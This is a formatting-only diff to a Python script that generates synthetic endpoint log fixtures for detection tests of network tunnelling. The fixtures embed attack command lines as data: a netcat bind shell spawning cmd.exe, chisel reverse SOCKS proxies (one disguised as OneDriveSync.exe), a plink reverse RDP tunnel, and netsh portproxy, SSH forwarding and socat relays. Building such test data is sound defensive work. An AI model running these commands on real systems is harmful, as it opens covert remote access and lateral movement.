@@ -24,7 +24,9 @@ def at(minutes: float) -> datetime:
     return T0 + timedelta(minutes=minutes)
 
 
-def falcon_process(minutes: float, image: str, cmd: str, parent: str, pid: int, **extra: str) -> dict:
+def falcon_process(
+    minutes: float, image: str, cmd: str, parent: str, pid: int, **extra: str
+) -> dict:
     when = at(minutes)
     platform = extra.pop("platform", "Win")
     event = {
@@ -55,37 +57,72 @@ def falcon_process(minutes: float, image: str, cmd: str, parent: str, pid: int, 
 def falcon_events() -> list[dict]:
     vol = "\\Device\\HarddiskVolume3"
     return [
-        falcon_process(1, f"{vol}\\Windows\\System32\\svchost.exe",
-                       "C:\\Windows\\system32\\svchost.exe -k LocalServiceNetworkRestricted -p -s "
-                       "WinHttpAutoProxySvc", "services.exe", 4164),
-        falcon_process(3, f"{vol}\\Program Files\\Google\\Chrome\\Application\\chrome.exe",
-                       '"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe" '
-                       "--type=renderer --lang=en-US", "chrome.exe", 5120),
+        falcon_process(
+            1,
+            f"{vol}\\Windows\\System32\\svchost.exe",
+            "C:\\Windows\\system32\\svchost.exe -k LocalServiceNetworkRestricted -p -s "
+            "WinHttpAutoProxySvc",
+            "services.exe",
+            4164,
+        ),
+        falcon_process(
+            3,
+            f"{vol}\\Program Files\\Google\\Chrome\\Application\\chrome.exe",
+            '"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe" '
+            "--type=renderer --lang=en-US",
+            "chrome.exe",
+            5120,
+        ),
         # Reference test 1: netsh portproxy rule creation.
-        falcon_process(12, f"{vol}\\Windows\\System32\\netsh.exe",
-                       "netsh interface portproxy add v4tov4 listenport=8080 "
-                       "listenaddress=0.0.0.0 connectport=445 connectaddress=192.168.1.50",
-                       "cmd.exe", 6012),
+        falcon_process(
+            12,
+            f"{vol}\\Windows\\System32\\netsh.exe",
+            "netsh interface portproxy add v4tov4 listenport=8080 "
+            "listenaddress=0.0.0.0 connectport=445 connectaddress=192.168.1.50",
+            "cmd.exe",
+            6012,
+        ),
         # Reference test 2: SSH local port forwarding.
-        falcon_process(20, f"{vol}\\Windows\\System32\\OpenSSH\\ssh.exe",
-                       "ssh.exe -N -L 9090:192.168.1.50:445 svc_backup@10.0.0.1",
-                       "powershell.exe", 6230),
+        falcon_process(
+            20,
+            f"{vol}\\Windows\\System32\\OpenSSH\\ssh.exe",
+            "ssh.exe -N -L 9090:192.168.1.50:445 svc_backup@10.0.0.1",
+            "powershell.exe",
+            6230,
+        ),
         # Reference test 3: chisel, once by name and once renamed.
-        falcon_process(31, f"{vol}\\Users\\Public\\chisel.exe",
-                       "chisel.exe client 10.0.0.99:8443 R:socks", "cmd.exe", 6410),
-        falcon_process(33, f"{vol}\\Users\\Public\\Libraries\\OneDriveSync.exe",
-                       "OneDriveSync.exe client --fingerprint 3f2a 10.0.0.99:8443 R:1080:socks",
-                       "cmd.exe", 6422),
+        falcon_process(
+            31,
+            f"{vol}\\Users\\Public\\chisel.exe",
+            "chisel.exe client 10.0.0.99:8443 R:socks",
+            "cmd.exe",
+            6410,
+        ),
+        falcon_process(
+            33,
+            f"{vol}\\Users\\Public\\Libraries\\OneDriveSync.exe",
+            "OneDriveSync.exe client --fingerprint 3f2a 10.0.0.99:8443 R:1080:socks",
+            "cmd.exe",
+            6422,
+        ),
         # Reference test 4: netcat relay.
-        falcon_process(40, f"{vol}\\Users\\Public\\nc.exe",
-                       "nc.exe -l -p 4444 -e cmd.exe", "cmd.exe", 6530),
+        falcon_process(
+            40, f"{vol}\\Users\\Public\\nc.exe", "nc.exe -l -p 4444 -e cmd.exe", "cmd.exe", 6530
+        ),
         # Reference test 5: Linux SOCKS proxy through SSH dynamic forwarding.
-        falcon_process(50, "/usr/bin/ssh", "ssh -D 1080 -N deploy@192.168.1.10", "bash", 21877,
-                       platform="Lin"),
-        falcon_process(52, "/usr/bin/git", "git fetch --prune origin", "bash", 21890,
-                       platform="Lin"),
-        falcon_process(55, f"{vol}\\Windows\\System32\\netsh.exe",
-                       "netsh advfirewall firewall show rule name=all", "cmd.exe", 6801),
+        falcon_process(
+            50, "/usr/bin/ssh", "ssh -D 1080 -N deploy@192.168.1.10", "bash", 21877, platform="Lin"
+        ),
+        falcon_process(
+            52, "/usr/bin/git", "git fetch --prune origin", "bash", 21890, platform="Lin"
+        ),
+        falcon_process(
+            55,
+            f"{vol}\\Windows\\System32\\netsh.exe",
+            "netsh advfirewall firewall show rule name=all",
+            "cmd.exe",
+            6801,
+        ),
     ]
 
 
@@ -109,26 +146,57 @@ def sysmon_mordor(minutes: float, event_id: int, **data: str) -> dict:
 def sysmon_events() -> list[dict]:
     netsh = "C:\\Windows\\System32\\netsh.exe"
     return [
-        sysmon_mordor(60, 1, ProcessGuid="{e2c04bb9-08cb-60c4-eb40-400100000000}",
-                      ProcessId="4236", Image=netsh,
-                      CommandLine="netsh  I p a v l=8001 listena=10.1.2.3 connectp=3389 "
-                                  "c=10.1.2.4",
-                      User="CORP\\svc_it", ParentImage="C:\\Windows\\System32\\cmd.exe",
-                      ParentProcessId="4100", ParentCommandLine='"C:\\Windows\\system32\\cmd.exe" '),
-        sysmon_mordor(60.1, 13, EventType="SetValue", ProcessId="4236", Image=netsh,
-                      TargetObject="HKLM\\System\\CurrentControlSet\\Services\\PortProxy\\v4tov4"
-                                   "\\tcp\\10.1.2.3/8001",
-                      Details="10.1.2.4/3389", User="CORP\\svc_it"),
-        sysmon_mordor(61, 17, EventType="CreatePipe", ProcessId="5012",
-                      PipeName="\\msagent_5f1e", Image="C:\\Windows\\System32\\rundll32.exe",
-                      User="CORP\\svc_it"),
-        sysmon_mordor(62, 17, EventType="CreatePipe", ProcessId="3240",
-                      PipeName="\\mojo.3240.7112.9121936055355962917",
-                      Image="C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe",
-                      User="CORP\\bob"),
-        sysmon_mordor(63, 1, ProcessId="5200", Image="C:\\Windows\\System32\\PING.EXE",
-                      CommandLine="ping -n 1 10.1.2.4", User="CORP\\bob",
-                      ParentImage="C:\\Windows\\System32\\cmd.exe", ParentProcessId="5100"),
+        sysmon_mordor(
+            60,
+            1,
+            ProcessGuid="{e2c04bb9-08cb-60c4-eb40-400100000000}",
+            ProcessId="4236",
+            Image=netsh,
+            CommandLine="netsh  I p a v l=8001 listena=10.1.2.3 connectp=3389 c=10.1.2.4",
+            User="CORP\\svc_it",
+            ParentImage="C:\\Windows\\System32\\cmd.exe",
+            ParentProcessId="4100",
+            ParentCommandLine='"C:\\Windows\\system32\\cmd.exe" ',
+        ),
+        sysmon_mordor(
+            60.1,
+            13,
+            EventType="SetValue",
+            ProcessId="4236",
+            Image=netsh,
+            TargetObject="HKLM\\System\\CurrentControlSet\\Services\\PortProxy\\v4tov4"
+            "\\tcp\\10.1.2.3/8001",
+            Details="10.1.2.4/3389",
+            User="CORP\\svc_it",
+        ),
+        sysmon_mordor(
+            61,
+            17,
+            EventType="CreatePipe",
+            ProcessId="5012",
+            PipeName="\\msagent_5f1e",
+            Image="C:\\Windows\\System32\\rundll32.exe",
+            User="CORP\\svc_it",
+        ),
+        sysmon_mordor(
+            62,
+            17,
+            EventType="CreatePipe",
+            ProcessId="3240",
+            PipeName="\\mojo.3240.7112.9121936055355962917",
+            Image="C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe",
+            User="CORP\\bob",
+        ),
+        sysmon_mordor(
+            63,
+            1,
+            ProcessId="5200",
+            Image="C:\\Windows\\System32\\PING.EXE",
+            CommandLine="ping -n 1 10.1.2.4",
+            User="CORP\\bob",
+            ParentImage="C:\\Windows\\System32\\cmd.exe",
+            ParentProcessId="5100",
+        ),
     ]
 
 
@@ -158,14 +226,30 @@ def security_4688(minutes: float, pid: int, ppid: int, image: str, cmd: str, par
 
 def security_events() -> list[dict]:
     return [
-        security_4688(70, 0x1A2C, 0x0A38, "C:\\Tools\\plink.exe",
-                      "plink.exe -ssh -batch -R 9000:127.0.0.1:3389 -P 443 tunnel@203.0.113.10",
-                      "C:\\Windows\\System32\\cmd.exe"),
-        security_4688(71, 0x1B00, 0x0A38, "C:\\Windows\\System32\\whoami.exe", "whoami /all",
-                      "C:\\Windows\\System32\\cmd.exe"),
-        security_4688(72, 0x1B10, 0x0A38, "C:\\Windows\\System32\\netsh.exe",
-                      "netsh interface portproxy delete v4tov4 listenport=8080 "
-                      "listenaddress=0.0.0.0", "C:\\Windows\\System32\\cmd.exe"),
+        security_4688(
+            70,
+            0x1A2C,
+            0x0A38,
+            "C:\\Tools\\plink.exe",
+            "plink.exe -ssh -batch -R 9000:127.0.0.1:3389 -P 443 tunnel@203.0.113.10",
+            "C:\\Windows\\System32\\cmd.exe",
+        ),
+        security_4688(
+            71,
+            0x1B00,
+            0x0A38,
+            "C:\\Windows\\System32\\whoami.exe",
+            "whoami /all",
+            "C:\\Windows\\System32\\cmd.exe",
+        ),
+        security_4688(
+            72,
+            0x1B10,
+            0x0A38,
+            "C:\\Windows\\System32\\netsh.exe",
+            "netsh interface portproxy delete v4tov4 listenport=8080 listenaddress=0.0.0.0",
+            "C:\\Windows\\System32\\cmd.exe",
+        ),
     ]
 
 
@@ -188,8 +272,8 @@ def auditd_lines() -> list[str]:
         lines.append(
             f"type=SYSCALL {stamp}: arch=c000003e syscall=59 success=yes exit=0 a0=5581 a1=5582 "
             f"a2=5583 a3=8 items=2 ppid={ppid} pid={pid} auid=1001 uid=1001 gid=1001 euid=1001 "
-            f'suid=1001 fsuid=1001 egid=1001 sgid=1001 fsgid=1001 tty=pts0 ses=7 comm="{argv[0][:15]}" '
-            f'exe="{exe}" key="exec"'
+            "suid=1001 fsuid=1001 egid=1001 sgid=1001 fsgid=1001 tty=pts0 ses=7 "
+            f'comm="{argv[0][:15]}" exe="{exe}" key="exec"'
         )
         lines.append(f"type=EXECVE {stamp}: argc={len(argv)} {args}")
         lines.append(f'type=CWD {stamp}: cwd="/home/deploy"')
@@ -199,31 +283,53 @@ def auditd_lines() -> list[str]:
     execve(80, "/usr/bin/ls", ["ls", "-la", "/var/www"], 30101, 30001)
     # Reference test 5 again, as auditd sees it.
     execve(81, "/usr/bin/ssh", ["ssh", "-D", "1080", "-N", "deploy@192.168.1.10"], 30120, 30001)
-    execve(82, "/usr/bin/socat", ["socat", "TCP-LISTEN:8443,fork,reuseaddr",
-                                  "TCP:10.20.0.15:443"], 30133, 30001)
+    execve(
+        82,
+        "/usr/bin/socat",
+        ["socat", "TCP-LISTEN:8443,fork,reuseaddr", "TCP:10.20.0.15:443"],
+        30133,
+        30001,
+    )
     execve(83, "/usr/bin/crontab", ["crontab", "-l"], 30140, 30001)
     return lines
 
 
 def ecs_events() -> list[dict]:
     when = at(90)
-    return [{
-        "@timestamp": when.strftime("%Y-%m-%dT%H:%M:%S.000Z"),
-        "event": {"code": "1", "module": "sysmon", "category": ["process"],
-                  "type": ["start", "process_start"], "provider": "Microsoft-Windows-Sysmon"},
-        "winlog": {"channel": "Microsoft-Windows-Sysmon/Operational", "event_id": "1",
-                   "computer_name": "LAPTOP7.corp.example", "record_id": 91822,
-                   "provider_name": "Microsoft-Windows-Sysmon",
-                   "event_data": {"UtcTime": when.strftime("%Y-%m-%d %H:%M:%S.000")}},
-        "host": {"name": "LAPTOP7.corp.example"},
-        "process": {"executable": "C:\\Windows\\System32\\OpenSSH\\ssh.exe", "name": "ssh.exe",
-                    "command_line": "ssh -fNL 5985:10.30.0.8:5985 ops@10.30.0.2", "pid": 7212,
-                    "parent": {"executable": "C:\\Windows\\System32\\WindowsPowerShell\\v1.0"
-                                             "\\powershell.exe", "pid": 7001}},
-        "user": {"name": "carol", "domain": "CORP"},
-        "agent": {"type": "winlogbeat"},
-        "ecs": {"version": "8.0.0"},
-    }]
+    return [
+        {
+            "@timestamp": when.strftime("%Y-%m-%dT%H:%M:%S.000Z"),
+            "event": {
+                "code": "1",
+                "module": "sysmon",
+                "category": ["process"],
+                "type": ["start", "process_start"],
+                "provider": "Microsoft-Windows-Sysmon",
+            },
+            "winlog": {
+                "channel": "Microsoft-Windows-Sysmon/Operational",
+                "event_id": "1",
+                "computer_name": "LAPTOP7.corp.example",
+                "record_id": 91822,
+                "provider_name": "Microsoft-Windows-Sysmon",
+                "event_data": {"UtcTime": when.strftime("%Y-%m-%d %H:%M:%S.000")},
+            },
+            "host": {"name": "LAPTOP7.corp.example"},
+            "process": {
+                "executable": "C:\\Windows\\System32\\OpenSSH\\ssh.exe",
+                "name": "ssh.exe",
+                "command_line": "ssh -fNL 5985:10.30.0.8:5985 ops@10.30.0.2",
+                "pid": 7212,
+                "parent": {
+                    "executable": "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
+                    "pid": 7001,
+                },
+            },
+            "user": {"name": "carol", "domain": "CORP"},
+            "agent": {"type": "winlogbeat"},
+            "ecs": {"version": "8.0.0"},
+        }
+    ]
 
 
 def main() -> None:
@@ -232,11 +338,13 @@ def main() -> None:
     with gzip.GzipFile(OUT / "falcon_fdr_ws01.ndjson.gz", "wb", mtime=0) as handle:
         handle.write(ndjson.encode())
     (OUT / "sysmon_srv02_mordor.json").write_text(
-        "".join(json.dumps(e) + "\n" for e in sysmon_events()))
+        "".join(json.dumps(e) + "\n" for e in sysmon_events())
+    )
     (OUT / "security_4688_dc01.json").write_text(json.dumps(security_events(), indent=1) + "\n")
     (OUT / "auditd_web01.log").write_text("\n".join(auditd_lines()) + "\n")
     (OUT / "winlogbeat_ecs_laptop7.ndjson").write_text(
-        "".join(json.dumps(e) + "\n" for e in ecs_events()))
+        "".join(json.dumps(e) + "\n" for e in ecs_events())
+    )
 
 
 if __name__ == "__main__":
